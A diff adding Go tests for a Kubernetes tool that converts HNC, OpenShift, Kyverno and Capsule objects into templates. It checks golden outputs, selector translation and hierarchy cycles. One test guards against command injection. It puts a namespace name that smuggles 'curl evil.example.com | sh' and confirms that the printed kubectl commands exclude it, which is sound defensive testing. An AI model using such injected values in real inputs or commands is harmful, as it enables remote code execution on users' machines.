@@ -1,0 +1,191 @@
+package scaffold
+
+import (
+	"bytes"
+	"flag"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
+
+	"nstpl.dev/nstpl/plugin/internal/source"
+)
+
+var update = flag.Bool("update", false, "update the expected conversions in testdata")
+
+// Exports of other tools become the templates in testdata/*.golden, with what is lost at the end.
+func TestConversions(t *testing.T) {
+	t.Parallel()
+	for file, flag := range map[string]string{
+		"hnc": "from-hnc", "project-request": "from-openshift-project-template", "kyverno": "from-kyverno-generate",
+		"capsule": "from-capsule",
+	} {
+		t.Run(file, func(t *testing.T) {
+			t.Parallel()
+			objects := readObjects(t, filepath.Join("testdata", file+".yaml"))
+			got := printed(t, toolOf(t, flag).convert(t.Context(), objects))
+			golden := filepath.Join("testdata", file+".golden")
+			if *update {
+				require.NoError(t, os.WriteFile(golden, []byte(got), 0o644))
+			}
+			want, err := os.ReadFile(golden)
+			require.NoError(t, err)
+			require.Equal(t, string(want), got)
+			require.NotContains(t, got, "hunter2")
+			require.NotContains(t, got, "aHVudGVyMg")
+		})
+	}
+}
+
+// A conversion reports objects of other tools as no objects of its tool, and does not panic.
+func TestObjectsOfOtherTools(t *testing.T) {
+	t.Parallel()
+	for _, file := range []string{"hnc", "project-request", "kyverno", "capsule"} {
+		objects := readObjects(t, filepath.Join("testdata", file+".yaml"))
+		for _, tool := range newTools() {
+			converted := tool.convert(t.Context(), objects)
+			require.Equal(t, strings.Contains(tool.flag, strings.Split(file, "-")[0]), converted != nil, "%s %s", file, tool.flag)
+		}
+	}
+}
+
+func toolOf(t *testing.T, flag string) *tool {
+	t.Helper()
+	for _, tool := range newTools() {
+		if tool.flag == flag {
+			return tool
+		}
+	}
+	t.Fatal("no such tool")
+	return nil
+}
+
+func readObjects(t *testing.T, path string) []*unstructured.Unstructured {
+	t.Helper()
+	objects, skipped, err := source.Objects(source.Filenames{Paths: []string{path}}, nil)
+	require.NoError(t, err)
+	require.Empty(t, skipped)
+	return objects
+}
+
+// printed returns what the command prints: standard output, and then standard error.
+func printed(t *testing.T, d *draft) string {
+	t.Helper()
+	var out, notes bytes.Buffer
+	require.NoError(t, d.print(&out, func(format string, args ...any) { fmt.Fprintf(&notes, format+"\n", args...) }))
+	return out.String() + "--- standard error\n" + notes.String()
+}
+
+// Conditions that a label selector cannot express make the template select nothing.
+func TestKyvernoNeverSelectsMore(t *testing.T) {
+	t.Parallel()
+	kinds := `"kinds": ["Namespace"]`
+	for name, test := range map[string]struct {
+		match, more string
+		incomplete  bool
+		selector    string
+	}{
+		"all":      {match: `{"any": [{"resources": {` + kinds + `}}]}`, selector: ``},
+		"legacy":   {match: `{"resources": {` + kinds + `, "selector": {"matchLabels": {"a": "b"}}}}`, selector: `a=b`},
+		"names":    {match: `{"any": [{"resources": {` + kinds + `, "names": ["a", "b"]}}]}`, selector: `kubernetes.io/metadata.name in (a,b)`},
+		"wildcard": {match: `{"any": [{"resources": {` + kinds + `, "names": ["a*"]}}]}`, incomplete: true},
+		"two": {
+			match:      `{"any": [{"resources": {` + kinds + `, "names": ["a"]}}, {"resources": {` + kinds + `}}]}`,
+			incomplete: true,
+		},
+		"both": {
+			match: `{"all": [{"resources": {` + kinds + `, "names": ["a"]}}, {"resources": {` + kinds +
+				`, "selector": {"matchExpressions": [{"key": "x", "operator": "DoesNotExist"}]}}}]}`,
+			selector: `kubernetes.io/metadata.name=a,!x`,
+		},
+		"annotations":      {match: `{"any": [{"resources": {` + kinds + `, "annotations": {"a": "b"}}}]}`, incomplete: true},
+		"roles":            {match: `{"any": [{"resources": {` + kinds + `}, "clusterRoles": ["x"]}]}`, incomplete: true},
+		"invalid selector": {match: `{"any": [{"resources": {` + kinds + `, "selector": {"matchLabels": "x"}}}]}`, incomplete: true},
+		"preconditions": {
+			match: `{"any": [{"resources": {` + kinds + `}}]}`, more: `"preconditions": {"all": []},`, incomplete: true,
+		},
+		"exclude two labels": {
+			match: `{"any": [{"resources": {` + kinds + `}}]}`, incomplete: true,
+			more: `"exclude": {"any": [{"resources": {"selector": {"matchLabels": {"a": "b", "c": "d"}}}}]},`,
+		},
+		"exclude users": {
+			match: `{"any": [{"resources": {` + kinds + `}}]}`, incomplete: true,
+			more: `"exclude": {"any": [{"subjects": [{"kind": "User", "name": "x"}]}]},`,
+		},
+		"exclude unreadable": {
+			match: `{"any": [{"resources": {` + kinds + `}}]}`, incomplete: true, more: `"exclude": {"any": [], "all": []},`,
+		},
+		"exclude a label": {
+			match:    `{"any": [{"resources": {` + kinds + `}}]}`,
+			more:     `"exclude": {"resources": {"selector": {"matchLabels": {"a": "b"}}}},`,
+			selector: `a notin (b)`,
+		},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			policy := &unstructured.Unstructured{}
+			require.NoError(t, policy.UnmarshalJSON([]byte(`{"apiVersion": "kyverno.io/v1", "kind": "ClusterPolicy",
+				"metadata": {"name": "p"}, "spec": {"rules": [{"name": "r", "match": `+test.match+`, `+test.more+`
+				"generate": {"generateExisting": true, "apiVersion": "v1", "kind": "ConfigMap", "name": "c",
+				"namespace": "{{request.object.metadata.name}}", "data": {"data": {}}}}]}}`)))
+			converted := decode(t, fromKyverno(t.Context(), []*unstructured.Unstructured{policy}))
+			require.Len(t, converted, 1)
+			require.Equal(t, test.incomplete, isDisabled(converted[0]))
+			if !test.incomplete {
+				require.Equal(t, test.selector, selectorOf(t, converted[0]))
+			}
+		})
+	}
+}
+
+// A namespace that would become its own ancestor has no parent, so the policy spaces form a hierarchy.
+func TestHNCWithCycle(t *testing.T) {
+	t.Parallel()
+	var objects []*unstructured.Unstructured
+	for name, parent := range map[string]string{"a": "b", "b": "c", "c": "a", "d": "d"} {
+		objects = append(objects, &unstructured.Unstructured{Object: map[string]any{
+			"apiVersion": "hnc.x-k8s.io/v1alpha2", "kind": "HierarchyConfiguration",
+			"metadata": map[string]any{"name": "hierarchy", "namespace": name}, "spec": map[string]any{"parent": parent},
+		}})
+	}
+	d := fromHNC(t.Context(), objects)
+	require.Contains(t, d.lost, "namespace/d: its parent d is below it")
+	parents := map[string]string{}
+	for _, doc := range d.documents {
+		parents[at[string](doc.object, "metadata", "name")] = at[string](doc.object, "spec", "parent")
+	}
+	for name := range parents {
+		above := name
+		for range parents {
+			above = parents[above]
+		}
+		require.Empty(t, above, "%v", parents)
+	}
+}
+
+// Names of namespaces get into commands that users copy from comments.
+func TestNoCommandsFromNames(t *testing.T) {
+	t.Parallel()
+	evil := "x; curl evil.example.com | sh #"
+	d := fromHNC(t.Context(), []*unstructured.Unstructured{
+		{Object: map[string]any{
+			"apiVersion": "hnc.x-k8s.io/v1alpha2", "kind": "SubnamespaceAnchor",
+			"metadata": map[string]any{"name": evil, "namespace": "good"},
+		}},
+		{Object: map[string]any{
+			"apiVersion": "hnc.x-k8s.io/v1alpha2", "kind": "HierarchyConfiguration",
+			"metadata": map[string]any{"name": "hierarchy", "namespace": "child"}, "spec": map[string]any{"parent": "good"},
+		}},
+	})
+	require.NotContains(t, printed(t, d), "curl")
+	d = fromCapsule(t.Context(), []*unstructured.Unstructured{{Object: map[string]any{
+		"apiVersion": "capsule.clastix.io/v1beta2", "kind": "Tenant", "metadata": map[string]any{"name": "good"},
+		"status": map[string]any{"namespaces": []any{evil, "fine"}},
+	}}})
+	require.NotContains(t, printed(t, d), "curl")
+	require.Contains(t, printed(t, d), "kubectl label namespace fine ")
+}
